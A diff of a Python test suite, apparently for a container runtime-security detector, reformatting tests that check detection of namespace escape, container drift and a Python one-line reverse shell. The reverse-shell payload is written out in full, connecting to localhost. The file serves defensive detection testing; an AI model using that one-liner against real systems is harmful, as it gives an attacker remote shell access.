@@ -40,7 +40,9 @@ def fired(harness: Harness, rule: str) -> list[dict]:
     return events
 
 
-def test_a_container_trying_to_enter_the_hosts_namespaces_and_read_kernel_memory_is_reported(harness, tmp_path):
+def test_a_container_trying_to_enter_the_hosts_namespaces_and_read_kernel_memory_is_reported(
+    harness, tmp_path
+):
     from containers import run_container
 
     with run_container(tmp_path, command=["sleep", "30"]) as c:
@@ -64,8 +66,8 @@ def test_a_program_written_into_a_running_container_is_reported_as_drift_when_it
     busybox = shutil.which("busybox")
     assert busybox is not None
     shutil.copy(busybox, lower / "true")  # shipped with the "image"
-    subprocess.run(["mount", "-t", "overlay", "overlay", "-o",
-                    f"lowerdir={lower},upperdir={upper},workdir={work}", str(merged)], check=True)
+    options = f"lowerdir={lower},upperdir={upper},workdir={work}"
+    subprocess.run(["mount", "-t", "overlay", "overlay", "-o", options, str(merged)], check=True)
     try:
         with run_container(tmp_path, command=["sleep", "30"], bind={str(merged): "/app"}) as c:
             c.exec(["cp", "/app/true", "/app/dropped"])  # written after the start: in the upper layer
@@ -98,8 +100,8 @@ def test_a_python_one_line_reverse_shell_is_reported(harness, tmp_path):
     server = threading.Thread(target=serve, daemon=True)
     server.start()
     one_liner = (
-        "import socket,os,pty;s=socket.socket();s.connect(('127.0.0.1',%d));"
-        "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')" % port
+        f"import socket,os,pty;s=socket.socket();s.connect(('127.0.0.1',{port}));"
+        "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"
     )
     harness.clear()
     proc = subprocess.run([sys.executable, "-c", one_liner], capture_output=True, timeout=30, check=False)
